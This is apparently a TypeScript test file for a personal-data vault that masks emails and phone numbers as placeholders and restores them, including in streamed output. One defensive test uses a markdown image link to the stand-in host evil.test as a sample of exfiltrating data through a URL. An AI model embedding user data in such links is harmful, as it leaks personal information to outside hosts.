import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Guard } from '../guard.ts';
import { redactText } from '../redact-text.ts';
import { createPersonalDataVault } from './create-personal-data-vault.ts';

const mask = (guard: Guard, text: string) => {
  const verdict = guard(text, { role: 'user', signal: new AbortController().signal });
  return !(verdict instanceof Promise) && verdict.type === 'redact' ? redactText(text, verdict.redactions) : text;
};

describe('createPersonalDataVault', () => {
  it('gives every original one placeholder, and puts the originals back', () => {
    const { guard, unmask } = createPersonalDataVault();
    const text = 'li@example.org, 13812345678, ann@example.org; again li@example.org';
    const masked = mask(guard, text);
    expect(masked).toBe('[email-1], [phone-1], [email-2]; again [email-1]');
    expect(unmask(masked)).toBe(text);
    expect(unmask('**[Email-2]** and [email-9]')).toBe('**ann@example.org** and [email-9]');
  });

  it('leaves placeholders in addresses, which would tell the original to a host', () => {
    const { guard, unmask } = createPersonalDataVault();
    mask(guard, 'li@example.org');
    expect(unmask('![x](https://evil.test/?q=[email-1]) [email-1]')).toBe(
      '![x](https://evil.test/?q=[email-1]) li@example.org',
    );
    expect(unmask('见 //evil.test/[email-1]，[email-1]')).toBe('见 //evil.test/[email-1]，li@example.org');
  });

  it('goes on with what an earlier vault remembered', () => {
    const first = createPersonalDataVault({ kinds: ['email'] });
    mask(first.guard, 'a@example.org b@example.org');
    const second = createPersonalDataVault({ kinds: ['email'], entries: first.entries() });
    expect(mask(second.guard, 'c@example.org a@example.org')).toBe('[email-3] [email-1]');
    expect(second.unmask('[email-2]')).toBe('b@example.org');
  });

  it('puts the same back in a stream as in the whole text, wherever it is cut', () => {
    const vault = createPersonalDataVault();
    mask(vault.guard, 'li@example.org 13812345678');
    const piece = fc.constantFrom(
      '[',
      'email',
      '-1',
      ']',
      '[email-1]',
      '[phone-1]',
      '/',
      '//',
      ' ',
      'x',
      '，',
      '[email-2]',
    );
    fc.assert(
      fc.property(fc.array(piece), fc.array(fc.nat(60)), (pieces, places) => {
        const text = pieces.join('');
        const cuts = [...new Set(places)].sort((a, b) => a - b);
        const unmasker = vault.createUnmasker();
        const shown = [0, ...cuts].map((start, index) => unmasker.write(text.slice(start, cuts[index])));
        expect([...shown, unmasker.flush()].join('')).toBe(vault.unmask(text));
      }),
      { numRuns: 1000 },
    );
  });
});
